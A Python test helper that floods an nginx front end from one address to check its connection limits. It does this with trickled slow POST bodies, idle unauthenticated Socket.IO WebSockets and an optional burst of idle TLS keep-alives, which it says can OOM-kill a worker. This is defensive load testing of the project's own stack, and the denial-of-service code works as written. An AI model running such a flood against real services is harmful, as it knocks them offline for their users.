"""The attacker of test_abuse_flood.py: one address holding as many slow
requests and idle WebSockets open against nginx as it will take.

It runs in a throw-away container on the stack's `front` network (standard
library only: the API image's Python), so nginx sees it as an address of its
own, apart from the test's legitimate client on the host. Every count and every
wait is bounded; it prints one JSON object with what happened to its sockets.

    python flood_client.py HOST PORT --slow 1000 --sockets 1000 --ramp 15 --hold 40

--burst-idle N (not in the test) adds N connections opened at once that each
fetch a static file and then sit idle: with N = 1900, nginx's 2 x 1024
worker_connections let a worker outgrow the 64 MiB container and be
OOM-killed (see the branch's report).
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import json
import os
import ssl
import struct
import time
from collections import Counter

SLOW_HEAD = (
    b"POST /api/auth HTTP/1.1\r\nHost: dashboard\r\nContent-Type: application/json\r\nContent-Length: 4096\r\n\r\n{"
)
# Slower than any client should be, yet inside nginx's 10 s body timeout, so
# only the connection limit can stop it.
TRICKLE_SECONDS = 3.0


def ws_head() -> bytes:
    key = base64.b64encode(os.urandom(16)).decode()
    return (
        "GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: dashboard\r\n"
        f"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: {key}\r\n"
        "Sec-WebSocket-Version: 13\r\n\r\n"
    ).encode()


def ws_frame(text: bytes) -> bytes:
    """A masked client text frame (RFC 6455 requires clients to mask)."""
    mask = os.urandom(4)
    return bytes([0x81, 0x80 | len(text)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(text))


async def read_status(reader: asyncio.StreamReader) -> str:
    head = await reader.readuntil(b"\r\n\r\n")
    parts = head.split(b" ", 2)
    return parts[1].decode() if len(parts) > 1 else "?"


class Flood:
    def __init__(self, host: str, port: int, deadline: float):
        self.host, self.port, self.deadline = host, port, deadline
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.context.check_hostname = False
        self.context.verify_mode = ssl.CERT_NONE
        self.outcomes: Counter[str] = Counter()
        self.held_at_end: Counter[str] = Counter()
        self.ws_closed_after: list[float] = []
        self.ws_pings_answered = 0
        # Ages of the unauthenticated sockets still open at the deadline: one
        # accepted in the last seconds is young, not a socket the API forgot.
        self.ws_open_ages: list[float] = []
        self.closed_after_refusal: list[float] = []
        self.idle_ages: list[float] = []

    async def connect(self, kind: str):
        try:
            return await asyncio.wait_for(asyncio.open_connection(self.host, self.port, ssl=self.context), timeout=10)
        except (TimeoutError, OSError) as exc:
            self.outcomes[f"{kind}:connect_failed:{type(exc).__name__}"] += 1
            return None

    async def hold_idle(self, kind: str, reader: asyncio.StreamReader, answered: float) -> None:
        """After a refusal the attacker keeps the socket anyway, idle, to see
        whether nginx lets one address sit on connections it does not count."""
        try:
            while True:
                remaining = self.deadline - time.monotonic()
                if remaining <= 0:
                    raise TimeoutError
                # The rest of the refusal's body, then nothing until nginx closes.
                if not await asyncio.wait_for(reader.read(4096), timeout=remaining):
                    break
        except TimeoutError:
            self.held_at_end[f"{kind}:idle_after_refusal"] += 1
            self.idle_ages.append(time.monotonic() - answered)
            return
        except OSError:
            pass
        self.outcomes[f"{kind}:closed_after_refusal"] += 1
        self.closed_after_refusal.append(time.monotonic() - answered)

    async def slow_body(self) -> None:
        conn = await self.connect("slow")
        if conn is None:
            return
        reader, writer = conn
        try:
            writer.write(SLOW_HEAD)
            status = asyncio.ensure_future(read_status(reader))
            while time.monotonic() < self.deadline:
                done, _ = await asyncio.wait({status}, timeout=min(TRICKLE_SECONDS, self.deadline - time.monotonic()))
                if done:
                    break
                writer.write(b" ")
                await writer.drain()
            if not status.done():
                status.cancel()
                self.outcomes["slow:accepted"] += 1
                self.held_at_end["slow:trickling"] += 1
                return
            code = status.result()
            self.outcomes[f"slow:answered_{code}"] += 1
            await self.hold_idle("slow", reader, time.monotonic())
        except (OSError, asyncio.IncompleteReadError, ssl.SSLError) as exc:
            self.outcomes[f"slow:dropped_by_server:{type(exc).__name__}"] += 1
        finally:
            writer.transport.abort()

    async def keep_alive(self) -> None:
        """One cheap request (a static file, which no rate limit covers), then
        the connection kept idle: limit_conn counts requests, not these."""
        conn = await self.connect("idle")
        if conn is None:
            return
        reader, writer = conn
        try:
            writer.write(b"GET /favicon.ico HTTP/1.1\r\nHost: dashboard\r\n\r\n")
            self.outcomes[f"idle:answered_{await asyncio.wait_for(read_status(reader), timeout=10)}"] += 1
            await self.hold_idle("idle", reader, time.monotonic())
        except (OSError, TimeoutError, asyncio.IncompleteReadError, ssl.SSLError):
            self.outcomes["idle:dropped_by_server"] += 1
        finally:
            writer.transport.abort()

    async def websocket(self) -> None:
        conn = await self.connect("ws")
        if conn is None:
            return
        reader, writer = conn
        opened = None
        try:
            writer.write(ws_head())
            code = await asyncio.wait_for(read_status(reader), timeout=max(self.deadline - time.monotonic(), 0.1))
            if code != "101":
                self.outcomes[f"ws:answered_{code}"] += 1
                await self.hold_idle("ws", reader, time.monotonic())
                return
            self.outcomes["ws:accepted"] += 1
            opened = time.monotonic()
            # Never a Socket.IO connect ("40"); engine.io pings ("2") get their
            # pong ("3") so only the handshake bound can close the socket.
            while True:
                remaining = self.deadline - time.monotonic()
                if remaining <= 0:
                    self.held_at_end["ws:open_unauthenticated"] += 1
                    self.ws_open_ages.append(time.monotonic() - opened)
                    return
                first = await asyncio.wait_for(reader.readexactly(2), timeout=remaining)
                length = first[1] & 0x7F
                if length == 126:
                    (length,) = struct.unpack("!H", await reader.readexactly(2))
                elif length == 127:
                    (length,) = struct.unpack("!Q", await reader.readexactly(8))
                payload = await reader.readexactly(length)
                opcode = first[0] & 0x0F
                if opcode == 0x8:
                    self.ws_closed_after.append(time.monotonic() - opened)
                    return
                if opcode == 0x1 and payload == b"2":
                    writer.write(ws_frame(b"3"))
                    self.ws_pings_answered += 1
        except TimeoutError:
            if opened is None:
                self.outcomes["ws:no_answer"] += 1
            else:
                self.held_at_end["ws:open_unauthenticated"] += 1
                self.ws_open_ages.append(time.monotonic() - opened)
        except (OSError, asyncio.IncompleteReadError, ssl.SSLError):
            if opened is not None:
                self.ws_closed_after.append(time.monotonic() - opened)
            else:
                self.outcomes["ws:dropped_by_server"] += 1
        finally:
            writer.transport.abort()


async def main(args: argparse.Namespace) -> dict:
    # Tells the test its container is up, so the legitimate client's figures
    # cover the flood and not docker's start-up.
    print(json.dumps({"ready": True}), flush=True)
    started = time.monotonic()
    flood = Flood(args.host, args.port, started + args.hold)
    kinds = [flood.slow_body] * args.slow + [flood.websocket] * args.sockets
    # Interleaved, so both kinds compete for the same per-address slots.
    kinds = [k for pair in zip(kinds[: args.slow], kinds[args.slow :]) for k in pair] + kinds[
        2 * min(args.slow, args.sockets) :
    ]
    # The burst of idle keep-alive connections all at once, not paced: what it
    # probes is how many TLS handshakes nginx holds at a time, which its
    # worker_connections, not any per-address limit, bound.
    tasks = [asyncio.ensure_future(flood.keep_alive()) for _ in range(args.burst_idle)]
    for i, start in enumerate(kinds):
        tasks.append(asyncio.ensure_future(start()))
        # Paced over the ramp: a flood, not one burst the kernel's backlog absorbs.
        await asyncio.sleep(max(started + args.ramp * (i + 1) / len(kinds) - time.monotonic(), 0))
    await asyncio.wait_for(asyncio.gather(*tasks), timeout=args.hold + 30)
    closed = sorted(flood.ws_closed_after)
    return {
        "opened": len(kinds) + args.burst_idle,
        "outcomes": dict(flood.outcomes),
        "held_at_end": dict(flood.held_at_end),
        "ws_closed": len(closed),
        "ws_closed_after_max": round(closed[-1], 2) if closed else None,
        "ws_closed_after_p50": round(closed[len(closed) // 2], 2) if closed else None,
        "ws_open_at_end_oldest": round(max(flood.ws_open_ages), 2) if flood.ws_open_ages else None,
        "closed_after_refusal_max": round(max(flood.closed_after_refusal), 2) if flood.closed_after_refusal else None,
        "idle_after_refusal_oldest": round(max(flood.idle_ages), 2) if flood.idle_ages else None,
        "ws_pings_answered": flood.ws_pings_answered,
        "seconds": round(time.monotonic() - started, 1),
    }


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--slow", type=int, default=1000)
    parser.add_argument("--sockets", type=int, default=1000)
    parser.add_argument("--burst-idle", type=int, default=0)
    parser.add_argument("--ramp", type=float, default=15)
    parser.add_argument("--hold", type=float, default=40)
    print(json.dumps(asyncio.run(main(parser.parse_args()))), flush=True)
